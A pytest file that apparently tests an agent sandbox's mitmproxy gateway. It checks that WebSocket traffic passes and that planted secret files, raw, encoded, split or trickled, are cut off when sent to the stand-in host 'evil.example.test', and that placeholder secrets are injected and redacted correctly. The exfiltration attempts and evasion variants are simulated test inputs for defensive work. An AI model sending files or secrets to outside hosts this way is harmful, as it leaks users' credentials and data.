"""WebSocket frames through the real gateway: a real cage, its real mitmproxy gateway, and
fakenet's `/ws` echo endpoint, which records every message it receives (unmasked, so
`net.received()` sees frame payloads) and echoes it back.

The client is tests/ws_client.py run with the cage's own `python3 -c` (no WebSocket library in
the cage). Two ways through the gateway, both tested: "transparent" (direct TLS to the name on
port 443, which the cage's nftables hand to the gateway, which intercepts with the cage CA from
SSL_CERT_FILE) and "proxy" (CONNECT through $HTTPS_PROXY, then the same TLS). Each connection
first sends a harmless control message that must be echoed, so a broken harness cannot pass for
a blocking gateway.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from tests.agentcage.test_gateway_world import canary, wait_for
from tests.agentcage.test_secrets_world import (
    ENV,
    LEAKED_KEY,
    LEAKED_RANDOM,
    VALUE,
    forms,
    placeholder,
    secrets_cage,
)

pytestmark = pytest.mark.netns

CLIENT = (Path(__file__).parent.parent / "ws_client.py").read_text()
KEY, RND = "/workspace/leaked.key", "/workspace/leaked.bin"


@pytest.fixture(scope="module")
def cage(net):
    yield from secrets_cage(net, "websock")


@pytest.fixture(params=["transparent", "proxy"])
def way(request) -> str:
    return request.param


def ws(cage, host: str, *messages: dict, way: str = "transparent",
       pipeline: bool = False) -> dict:
    """Open wss://host/ws from inside the cage, send each message, collect the echoes."""
    spec = {"host": host, "port": 443, "tls": True, "path": "/ws", "messages": list(messages),
            "via_proxy": way == "proxy", "pipeline": pipeline}
    r = cage.service.exec_capture(cage.name, ["python3", "-c", CLIENT, json.dumps(spec)],
                                  timeout=60)
    assert r.returncode == 0, r
    return json.loads(r.stdout)


def text(value: str) -> dict:
    return {"type": "text", "text": value}


def echoes(got: dict) -> list[bytes | None]:
    return [base64.b64decode(r["echo"]) if "echo" in r else None for r in got["results"]]


def ws_received(cage) -> list[bytes]:
    """Every WebSocket message the fake internet received over TLS, in order."""
    return [r.data for r in cage.net.sink_records() if r.proto == "wss"]


def ws_records(cage, host: str) -> list[dict]:
    return [r for r in cage.audit() if r.get("direction") == "websocket"
            and r.get("host") == host]


# ---- (a) control: a harmless message arrives and comes back ------------------------------------

def test_innocuous_message_arrives_and_is_echoed(cage, way):
    c = canary()
    got = ws(cage, "allowed.example.test", text(f"hello {c}"),
             {"type": "binary", "data": base64.b64encode(c.encode() * 3).decode()}, way=way)
    assert got["status"] == 101 and got["accept_ok"], got
    assert echoes(got) == [f"hello {c}".encode(), c.encode() * 3]
    assert got["close"].startswith("close frame 1000"), got
    assert wait_for(lambda: f"hello {c}".encode() in ws_received(cage))
    assert cage.net.received(f"hello {c}")
    handshakes = [q for q in cage.net.http_requests() if q["path"] == "/ws"
                  and q["host"] == "allowed.example.test"]
    assert handshakes and handshakes[-1]["sni"] == "allowed.example.test"
    assert handshakes[-1]["headers"]["upgrade"].lower() == "websocket"
    assert [r for r in ws_records(cage, "allowed.example.test")
            if r["decision"] == "blocked"] == []


# ---- (b) planted secret material never reaches the server -------------------------------------

LEAKS = {  # message spec: the planted file as the cage would send it
    "key-raw": {"type": "text", "file": KEY},
    "key-base64": {"type": "text", "file": KEY, "encode": "base64"},
    "key-hex": {"type": "text", "file": KEY, "encode": "hex"},
    "random-raw": {"type": "binary", "file": RND},
    "random-base64": {"type": "text", "file": RND, "encode": "base64"},
    "random-hex": {"type": "text", "file": RND, "encode": "hex"},
}


@pytest.mark.parametrize(("how", "way"), [(how, "transparent") for how in sorted(LEAKS)]
                         + [("key-raw", "proxy"), ("random-raw", "proxy")])
def test_planted_secret_material_never_reaches_the_server(cage, how, way):
    material = LEAKED_KEY.encode() if how.startswith("key") else LEAKED_RANDOM
    c = canary()
    before = len(ws_records(cage, "evil.example.test"))
    got = ws(cage, "evil.example.test", text(f"control {c}"), LEAKS[how], text(f"after {c}"),
             way=way)
    assert got["status"] == 101, got
    # the control went through; the leak was dropped and the connection cut, nothing after it
    assert echoes(got)[0] == f"control {c}".encode()
    assert len(got["results"]) == 2 and "closed" in got["results"][1], got
    assert "timed out" not in got["results"][1]["closed"], "not cut: the client waited"
    assert wait_for(lambda: f"control {c}".encode() in ws_received(cage))
    assert not cage.net.received(f"after {c}")
    for form in forms(material):
        assert not cage.net.received(form[:48]), f"a form of {how} reached the internet"
    blocked = [r for r in ws_records(cage, "evil.example.test")[before:]
               if r["decision"] == "blocked"]
    assert len(blocked) == 1, blocked
    assert blocked[0]["by"] in ("secrets", "entropy", "content-type"), blocked
    assert blocked[0]["path"] == "/ws" and blocked[0]["method"] == "WEBSOCKET"


def test_nothing_passes_after_a_blocked_message_even_when_already_sent(cage):
    """The client writes all three messages at once: the one after the leak is already in the
    gateway's buffer when the leak is blocked, and must not pass either."""
    c = canary()
    got = ws(cage, "evil.example.test", text(f"first {c}"), LEAKS["key-raw"],
             text(f"queued {c}"), pipeline=True)
    assert got["status"] == 101 and "closed" in got["results"][-1], got
    # the first one went through (the harness works); the echo may not make it back before
    # the connection is cut, and the one queued behind the leak never reaches the server
    assert wait_for(lambda: f"first {c}".encode() in ws_received(cage))
    assert not cage.net.received(f"queued {c}")


# ---- (b2) split across messages: the chain sees each message after the tail of the ones before --

def test_key_split_across_messages_never_arrives_whole(cage):
    c = canary()
    got = ws(cage, "evil.example.test", text(f"control {c}"),
             {"type": "text", "file": KEY, "slice": [0, 6]},
             {"type": "text", "file": KEY, "slice": [6, None]}, text(f"after {c}"))
    assert got["status"] == 101, got
    # the harmless start went through; the rest completed the key in the chain's view
    assert echoes(got)[:2] == [f"control {c}".encode(), LEAKED_KEY[:6].encode()]
    assert len(got["results"]) == 3 and "closed" in got["results"][2], got
    assert wait_for(lambda: f"control {c}".encode() in ws_received(cage))
    assert not cage.net.received(LEAKED_KEY[6:40]) and not cage.net.received(f"after {c}")
    (blocked,) = [r for r in ws_records(cage, "evil.example.test")
                  if r["decision"] == "blocked" and "key" in r["reason"].lower()
                  and r["by"] == "secrets"][-1:]
    assert blocked["method"] == "WEBSOCKET"


def test_random_material_trickled_in_small_messages_is_cut_off(cage):
    """2 KiB of key material in 64-byte messages, each below every threshold alone: the
    connection is cut after a few, and most of the material never arrives. (The second half
    of the planted file: the few pieces that do arrive must not be the start of the material
    that other tests look for at the sink, whatever order the tests run in.)"""
    pieces = [{"type": "binary", "file": RND, "slice": [i, i + 64]}
              for i in range(2048, 4096, 64)]
    got = ws(cage, "evil.example.test", *pieces)
    assert got["status"] == 101, got
    assert "closed" in got["results"][-1] and len(got["results"]) < len(pieces), got
    arrived = sum(len(m) for m in ws_received(cage) if m and m in LEAKED_RANDOM)
    assert arrived <= 512, f"{arrived} bytes of the material reached the server"


# ---- (c) a placeholder: injected toward its inject_to host, blocked elsewhere ------------------
# ---- (d) and the server's echo of the real value comes back as the placeholder -----------------

def test_placeholder_is_injected_in_a_frame_and_the_echo_redacted(cage, way):
    c = canary()
    ph = placeholder(cage)
    before = len(ws_records(cage, "api.example.test"))
    got = ws(cage, "api.example.test", text(f"auth {c} ${ENV}"),
             text(f'{{"token": "${ENV}", "c": "{c}"}}'), way=way)
    assert got["status"] == 101, got
    # on the wire: the real value (the server recorded it)
    sent = wait_for(lambda: [m for m in ws_received(cage) if c.encode() in m], timeout=5)
    assert sent == [f"auth {c} {VALUE}".encode(), f'{{"token": "{VALUE}", "c": "{c}"}}'.encode()]
    # the server echoed the real value; the cage got the placeholder back, never the value
    assert echoes(got) == [f"auth {c} {ph}".encode(), f'{{"token": "{ph}", "c": "{c}"}}'.encode()]
    assert VALUE not in json.dumps(got)
    for form in forms(VALUE.encode())[:4]:
        assert form.decode() not in json.dumps(got)
    recs = ws_records(cage, "api.example.test")[before:]
    injected = [r for r in recs if r["secrets_injected"] == [ENV]]
    redacted = [r for r in recs if r["secrets_redacted"] == [ENV]]
    assert len(injected) == 2 and len(redacted) == 2
    assert all(r["decision"] == "allowed" for r in injected + redacted)
    assert VALUE not in json.dumps(recs)


def test_placeholder_toward_another_host_is_blocked(cage, way):
    c = canary()
    ph = placeholder(cage)
    before = len(ws_records(cage, "allowed.example.test"))
    got = ws(cage, "allowed.example.test", text(f"control {c}"), text(f"auth {c} ${ENV}"),
             way=way)
    assert got["status"] == 101, got
    assert echoes(got)[0] == f"control {c}".encode()
    assert len(got["results"]) == 2 and "closed" in got["results"][1], got
    assert wait_for(lambda: f"control {c}".encode() in ws_received(cage))
    # neither the placeholder nor (injected) the value: "auth {c}" would lead either
    assert not cage.net.received(f"auth {c}") and not cage.net.received(ph)
    (blocked,) = [r for r in ws_records(cage, "allowed.example.test")[before:]
                  if r["decision"] == "blocked"]
    assert "placeholder" in blocked["reason"]
    assert blocked["by"] in ("secrets", "injection") and ENV in blocked["reason"]


def test_zzz_no_hook_failed_silently_into_a_block(cage):
    faults = [r for r in cage.audit() if r.get("by") == "fail-closed"]
    assert faults == []
    log = cage.cage.gateway_log.read_text()
    assert "Traceback" not in log and VALUE not in log
